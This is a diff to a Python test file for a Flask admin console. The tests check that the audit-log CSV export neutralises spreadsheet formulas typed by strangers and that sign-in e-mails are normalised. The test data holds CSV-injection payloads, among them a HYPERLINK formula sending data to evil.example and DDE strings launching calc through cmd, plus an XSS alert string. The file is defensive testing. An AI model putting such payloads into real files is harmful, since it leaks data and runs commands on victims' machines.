@@ -20,7 +20,7 @@ from bot.residents import lock_resident, record_follow, record_unfollow
 from models import AuditEntry, Resident, Role, Staff
 from models.base import utcnow
 from tests.conftest import ResidentRowFactory
-from tests.console.conftest import StaffFactory, post_form, sign_in
+from tests.console.conftest import StaffFactory, csrf_token, post_form, sign_in
 from tests.support import PASSWORD
 
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
@@ -261,3 +261,72 @@ def test_new_staff_member_can_sign_in(
         sign_in(app.test_client(), "new@pref.example.jp", "a long enough password").status_code
         == 302
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-1+1",
+    "\t=1+1",
+    "＝1+1",
+]
+
+
+def test_audit_csv_defuses_what_strangers_typed(
+    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
+) -> None:
+    stranger = app.test_client()
+    stranger.environ_base["HTTP_USER_AGENT"] = "=cmd|' /C calc'!A0"
+    for text in FORMULAS:  # typed as the e-mail, without signing in
+        token = csrf_token(stranger)
+        stranger.post("/admin/signin", data={"email": text, "password": "x", "csrf_token": token})
+    signed_in(Role.ADMIN)
+    export = client.get("/admin/audit.csv")
+    raw = export.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff"))))
+    assert rows[0] == [
+        "at",
+        "actor",
+        "action",
+        "object_type",
+        "object_id",
+        "detail",
+        "remote_addr",
+        "user_agent",
+    ]
+    for row in rows[1:]:
+        for cell in row:
+            assert cell.lstrip()[:1] not in set("=+-@\t\r＝＋－＠"), row
+    failed = [row for row in rows[1:] if row[2] == "signin.failed"]
+    assert len(failed) == len(FORMULAS)
+    assert {row[7] for row in failed} == {"'=cmd|' /C calc'!A0"}
+    details = [json.loads(row[5]) for row in failed]
+    assert details.count({"not_an_email": True}) == len(FORMULAS) - 1
+    assert details.count({"malformed": ["email"]}) == 1  # the tab: a control character
+
+
+def test_sign_in_emails_are_normalised_so_the_filter_finds_every_spelling(
+    app: Flask, client: FlaskClient, signed_in: Callable[..., Staff]
+) -> None:
+    for typed in (
+        "Staff9@Pref.Example.JP",
+        "  ｓｔａｆｆ９＠ｐｒｅｆ.example.jp ",
+        "staff9@pref.example.jp",
+    ):
+        sign_in(app.test_client(), typed, "wrong password")
+    sign_in(app.test_client(), "not an address", "wrong password")
+    signed_in(Role.ADMIN)
+    page = client.get("/admin/audit?actor=ＳＴＡＦＦ9@pref.example.jp").get_data(as_text=True)
+    assert page.count("staff9@pref.example.jp") == 3
+    with app.extensions["db"].sessions() as session:
+        entries = session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "signin.failed").order_by(AuditEntry.id)
+        ).all()
+    assert [e.actor_label for e in entries] == [
+        *["staff9@pref.example.jp"] * 3,
+        "not an address",
+    ]
+    assert [e.detail for e in entries] == [{}, {}, {}, {"not_an_email": True}]
+    assert all(e.remote_addr == "127.0.0.1" and e.user_agent for e in entries)
